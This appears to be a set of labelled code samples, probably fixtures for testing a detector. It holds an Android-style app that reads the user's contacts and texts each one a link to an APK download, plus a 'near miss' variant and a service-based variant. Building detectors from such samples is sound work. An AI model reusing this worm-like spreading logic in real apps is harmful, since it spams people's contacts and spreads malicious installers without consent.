permissions("READ_CONTACTS", "SEND_SMS")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        place = ContactsContract_CommonDataKinds_Phone.CONTENT_URI
        rows = self.getContentResolver().query(place, None, None, None, None)
        while rows.moveToNext():
            self.tell(rows.getString(1))
    def tell(self, number: String):
        text = "look: https://example.org/a.apk"
        SmsManager.getDefault().sendTextMessage(number, None, text, None, None)

# near miss: shows the contacts and sends one word to its own number
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        place = ContactsContract_CommonDataKinds_Phone.CONTENT_URI
        rows = self.getContentResolver().query(place, None, None, None, None)
        while rows.moveToNext():
            Toast.makeText(self, rows.getString(1), 1).show()
        self.tell("look: https://example.org/a.apk")
    def tell(self, number: String):
        SmsManager.getDefault().sendTextMessage(number, None, number, None, None)

# also: from a service, through a list of numbers
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.startService(Intent(self, Tell))

@service
class Tell(Service):
    def onStartCommand(self, intent, flags, number):
        place = Uri.parse("content://contacts")
        rows = self.getContentResolver().query(place, None, None, None, None)
        numbers = ArrayList()
        while rows.moveToNext():
            numbers.add(rows.getString(1))
        self.tell(cast(String, numbers.get(0)))
        return 1
    def tell(self, number: String):
        SmsManager.getDefault().sendTextMessage(number, None, "look", None, None)
